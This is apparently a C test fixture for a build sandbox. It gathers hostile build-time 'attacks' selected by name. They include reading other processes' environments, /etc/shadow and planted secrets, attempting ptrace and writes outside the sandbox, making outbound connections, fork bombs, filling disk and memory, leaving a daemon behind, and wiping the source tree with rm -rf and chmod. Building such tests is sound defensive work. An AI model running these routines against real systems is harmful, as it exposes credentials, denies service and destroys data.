/*
 * What a hostile patch runs at build time. Each attack says that it begins, goes on to a bound
 * that cannot hurt the machine of the tests, and there says that nobody stopped it.
 *
 * SECRET, OUTSIDE, PORT, ABSTRACT and DAEMON come as macros from the test that plants them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MIB (1L << 20)
#define BOUND (1024 * MIB)

static void report(const char *what, long result)
{
	fprintf(stderr, "%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "SUCCESS");
}

static void show(const char *path)
{
	char text[1 << 16];
	int fd = open(path, O_RDONLY);
	ssize_t size;

	if (fd < 0)
		return;
	while ((size = read(fd, text, sizeof(text))) > 0)
		for (ssize_t i = 0; i < size; i++)
			fputc(text[i] ? text[i] : '\n', stderr);
	close(fd);
}

static void look_for_secrets(void)
{
	char path[PATH_MAX], target[PATH_MAX];
	struct dirent *entry;
	DIR *folder = opendir("/proc");

	fprintf(stderr, "user %d, processes", getuid());
	while ((entry = readdir(folder)))
		if (atoi(entry->d_name))
			fprintf(stderr, " %s", entry->d_name);
	fputc('\n', stderr);
	for (int pid = 1; pid < 1000; pid++) {
		snprintf(path, sizeof(path), "/proc/%d/environ", pid);
		show(path);
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		show(path);
	}
	for (int fd = 0; fd < 1000; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t size = readlink(path, target, sizeof(target) - 1);

		if (size > 0)
			fprintf(stderr, "open %d: %.*s\n", fd, (int)size, target);
	}
	for (char c; read(0, &c, 1) == 1;)
		fputc(c, stderr);
	show(SECRET);
	snprintf(path, sizeof(path), "/proc/1/root%s", SECRET);
	show(path);
	show("/etc/shadow");
	report("session keyring", syscall(SYS_keyctl, 0, -3, 1));
	report("ptrace", ptrace(PTRACE_ATTACH, 1, 0, 0));
}

static void write_outside(void)
{
	report("write " OUTSIDE, open(OUTSIDE, O_CREAT | O_WRONLY, 0666));
	report("write /pwned", open("/pwned", O_CREAT | O_WRONLY, 0666));
	report("write /usr/pwned", open("/usr/pwned", O_CREAT | O_WRONLY, 0666));
	report("write /dev/pwned", open("/dev/pwned", O_CREAT | O_WRONLY, 0666));
	report("write /proc/1/root", open("/proc/1/root" OUTSIDE, O_CREAT | O_WRONLY, 0666));
	report("user namespace", unshare(CLONE_NEWUSER));
	report("su", system("su -c true </dev/null >/dev/null 2>&1") == 0 ? 0 : -1);
}

static void connect_out(void)
{
	struct sockaddr_in internet = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	struct sockaddr_un local = { .sun_family = AF_UNIX };

	internet.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	report("loopback", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&internet,
				   sizeof(internet)));
	strcpy(local.sun_path + 1, ABSTRACT);
	report("abstract socket", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&local,
					  offsetof(struct sockaddr_un, sun_path) + 1 +
						  strlen(ABSTRACT)));
	inet_pton(AF_INET, "192.0.2.1", &internet.sin_addr);
	report("internet", connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&internet,
				   sizeof(internet)));
	report("hypervisor", socket(AF_VSOCK, SOCK_STREAM, 0));
}

static void fill_file(int fd)
{
	static char block[1 << 20];

	memset(block, 1, sizeof(block));
	for (long size = 0; size < BOUND; size += sizeof(block))
		if (write(fd, block, sizeof(block)) < 0) {
			perror("write");
			break;
		}
	sleep(5); /* a fast disk takes all of it between two looks of the watch */
}

static void fill(const char *path)
{
	fill_file(open(path, O_CREAT | O_WRONLY, 0666));
}

static void fill_unlinked(void)
{
	int fd = open("filled", O_CREAT | O_WRONLY, 0666);

	unlink("filled");
	fill_file(fd);
}

static void fill_mapped(void)
{
	int fd = open("filled", O_CREAT | O_RDWR, 0666);

	unlink("filled");
	ftruncate(fd, BOUND);
	char *area = mmap(NULL, BOUND, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	close(fd);
	for (long i = 0; area != MAP_FAILED && i < BOUND; i += 4096)
		area[i] = 1;
	sleep(2);
}

static void many_files(void)
{
	char path[32];

	mkdir("many", 0777);
	for (int i = 0; i < 100000; i++) {
		snprintf(path, sizeof(path), "many/%d", i);
		close(open(path, O_CREAT | O_WRONLY, 0666));
	}
}

static void nest(void)
{
	for (int i = 0; i < 20000; i++)
		if (mkdir("nested", 0777) < 0 || chdir("nested") < 0)
			break;
	sleep(5);
}

static void take_memory(long size, int kind)
{
	char *area = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_ANONYMOUS | kind, -1, 0);

	for (long i = 0; area != MAP_FAILED && i < size; i += 4096)
		area[i] = 1;
}

static void many_takers(void)
{
	for (int i = 0; i < 32; i++)
		if (fork() == 0) {
			take_memory(BOUND / 32, MAP_PRIVATE);
			sleep(5);
			_exit(0);
		}
	while (wait(NULL) > 0)
		;
}

static void fork_without_end(void)
{
	for (time_t end = time(NULL) + 10; time(NULL) < end;)
		fork();
}

static int thread(void *unused)
{
	(void)unused;
	sleep(5);
	return 0;
}

static void many_threads(void)
{
	for (int i = 0; i < 1000; i++)
		clone(thread, (char *)malloc(1 << 16) + (1 << 16),
		      CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, NULL);
	sleep(5);
}

static void talk(const char *what, int size)
{
	for (long sent = 0; sent < BOUND; sent += size)
		if (write(2, what, size) < 0)
			return;
}

static void leave_daemon(void)
{
	if (fork()) {
		usleep(300000);
		system("cat /proc/[0-9]*/comm | grep -x sleep | sed 's/^/alive: /' >&2");
		return;
	}
	setsid();
	if (fork())
		_exit(0);
	for (int number = 1; number < 65; number++)
		signal(number, SIG_IGN);
	for (int fd = 0; fd < 1024; fd++)
		close(fd);
	if (fork())
		for (;;)
			pause();
	execlp("sleep", "sleep", DAEMON, NULL);
}

static void hold_output(void)
{
	if (fork() == 0) {
		setsid();
		dup2(2, 1);
		sleep(60);
	}
}

static void spoil_tree(void)
{
	report("spoil", system("find . -type f ! -path './scripts/*' ! -name Makefile"
			       " -exec sh -c 'echo spoilt >\"$1\"' sh {} \\;"
			       "; chmod -R 0 kernel lib; rm -rf fs include; touch -d 2038-01-01 ."));
}

int main(int count, char **words)
{
	const char *name = count > 1 ? words[1] : "";
	static char blank[1 << 16];

	fprintf(stderr, "attack %s begins\n", name);
	if (!strcmp(name, "secrets"))
		look_for_secrets();
	else if (!strcmp(name, "outside"))
		write_outside();
	else if (!strcmp(name, "network"))
		connect_out();
	else if (!strcmp(name, "tree"))
		fill("filled");
	else if (!strcmp(name, "tmp"))
		fill("/tmp/filled");
	else if (!strcmp(name, "shm"))
		fill("/dev/shm/filled");
	else if (!strcmp(name, "unlinked"))
		fill_unlinked();
	else if (!strcmp(name, "mapped"))
		fill_mapped();
	else if (!strcmp(name, "files"))
		many_files();
	else if (!strcmp(name, "nest"))
		nest();
	else if (!strcmp(name, "memory"))
		take_memory(BOUND, MAP_PRIVATE);
	else if (!strcmp(name, "shared"))
		take_memory(BOUND, MAP_SHARED);
	else if (!strcmp(name, "takers"))
		many_takers();
	else if (!strcmp(name, "forks"))
		fork_without_end();
	else if (!strcmp(name, "threads"))
		many_threads();
	else if (!strcmp(name, "lines"))
		talk("\n\n\n\n", 4);
	else if (!strcmp(name, "line"))
		talk(blank, sizeof(blank));
	else if (!strcmp(name, "forever"))
		sleep(60);
	else if (!strcmp(name, "daemon"))
		leave_daemon();
	else if (!strcmp(name, "hold"))
		hold_output();
	else if (!strcmp(name, "spoil"))
		spoil_tree();
	fprintf(stderr, "attack %s was not stopped\n", name);
	return 0;
}
